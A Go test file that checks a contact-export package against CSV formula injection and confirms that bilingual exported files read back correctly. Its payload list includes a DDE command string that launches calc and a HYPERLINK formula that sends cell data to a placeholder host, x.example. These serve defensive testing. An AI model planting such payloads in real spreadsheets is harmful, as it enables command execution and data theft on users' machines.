package audience_test

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/leadlake/leadlake/lib/audience"
	"github.com/leadlake/leadlake/lib/identity"
)

const stringsFile = "../../../shared/corpora/blns.json"

// dangerous is what no cell of a people's file may begin with (ASVS 1.2.10).
var dangerous = regexp.MustCompile("^[=+\\-@\t\r\x00\uff1d\uff0b\uff0d\uff20]")

// hostile are names that people could type into a site's form.
func hostile(t *testing.T) []string {
	t.Helper()
	texts := []string{
		"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+9)*cmd", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b\u200e=1+1",
		"＝1+1", "＋1", "－1", "＠A1", "x,=1+1", "x;=1+1", "x; =1+1", "x,\"=1+1", "\"=1+1", "\",=1+1,\"", "x\ty=1", "x\r\n=1+1", "x\u2028=1", "a|=1", "'=1+1", "=", "-", "",
		"=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "\xff=1+1", "=\xff", "%0A=1", "\v=1", "\x1b=1", "\x7f=1", "\u0085=1",
	}
	raw, err := os.ReadFile(stringsFile)
	if errors.Is(err, os.ErrNotExist) {
		t.Logf("ATTENTION: %s is not there; only the built-in strings are checked", stringsFile)
		return texts
	}
	if err != nil {
		t.Fatal(err)
	}
	var corpus []string
	if err := json.Unmarshal(raw, &corpus); err != nil {
		t.Fatal(err)
	}
	for _, s := range corpus {
		texts = append(texts, s, "="+s, "x,"+s, "x;"+s, "x\n"+s)
	}
	return texts
}

func TestNoCellOfAPeoplesFileIsAFormula(t *testing.T) {
	texts := hostile(t)
	var contacts []audience.Contact
	for _, text := range texts {
		contacts = append(contacts, audience.Contact{
			ClientID: text, FirstName: text, LastName: text, City: text, BirthDay: text, Fields: map[string]string{"note": text},
			Phones: []identity.Phone{"+79000000001"}, Emails: []identity.Email{"=1@shop.ru", "+2@shop.ru"},
		})
	}
	for _, separator := range []byte{0, ';'} {
		req := request("csv", false)
		req.Separator = separator
		req.Columns = []audience.Column{{Key: "note", Title: audience.Text{RU: "=Заметка", EN: "+Note"}}}
		_, out := mustWrite(t, req, list(contacts...))
		text := out.text("contacts.csv")
		if !strings.HasPrefix(text, "\ufeff") {
			t.Fatal("no byte order mark: a spreadsheet would not see UTF-8")
		}
		// Whatever separator the reading program expects, no cell is a formula.
		for _, expected := range []rune{',', ';', '\t', '|'} {
			reader := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff")))
			reader.Comma, reader.LazyQuotes, reader.FieldsPerRecord = expected, true, -1
			rows, err := reader.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for i, row := range rows {
				for _, cell := range row {
					if dangerous.MatchString(strings.TrimLeft(cell, `" `)) {
						t.Errorf("separator %q read as %q: row %d has a cell that begins with %.8q", separator, expected, i, cell)
					}
				}
			}
		}
		// Nor does a line, for a program that ignores quotes altogether.
		for line := range strings.Lines(text) {
			if !strings.HasPrefix(strings.TrimPrefix(line, "\ufeff"), `"`) {
				t.Errorf("a line begins with %.12q, not with a quoted cell", line)
			}
		}
	}
}

func TestPeoplesFileReadsBack(t *testing.T) {
	c := audience.Contact{
		ClientID: "p1", FirstName: "Анна, \"Аня\"", LastName: "Смирнова; младшая", City: "Ростов-на-Дону", BirthDay: "1990-02-01",
		Phones: []identity.Phone{"+79995551111", "+442071838750", "+3725123456"}, Emails: []identity.Email{"Anna@Mail.ru", "анна@почта.рф"},
		Fields: map[string]string{"manager": "olga", "unused": "x"},
	}
	req := request("csv", false)
	req.Columns = []audience.Column{{Key: "manager", Title: audience.Text{RU: "Менеджер", EN: "Manager"}}, {Key: "none", Title: audience.Text{RU: "Нет", EN: "None"}}}
	row := []string{"p1", "Анна, \"Аня\"", "Смирнова; младшая", "7 999 555-11-11 / 44 207 183-87-50 / 372 512-34-56", "anna@mail.ru / анна@почта.рф", "Ростов-на-Дону", "1990-02-01", "olga", ""}
	for language, header := range map[string][]string{
		"ru": {"Код клиента", "Имя", "Фамилия", "Телефоны", "Почта", "Город", "Дата рождения", "Менеджер", "Нет"},
		"en": {"Client id", "First name", "Last name", "Phones", "E-mails", "City", "Birth date", "Manager", "None"},
		"": {
			"Код клиента / Client id", "Имя / First name", "Фамилия / Last name", "Телефоны / Phones", "Почта / E-mails",
			"Город / City", "Дата рождения / Birth date", "Менеджер / Manager", "Нет / None",
		},
	} {
		req.Language = language
		_, out := mustWrite(t, req, list(c))
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.text("contacts.csv"), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff([][]string{header, row}, rows); diff != "" {
			t.Errorf("language %q: %s", language, diff)
		}
	}
}
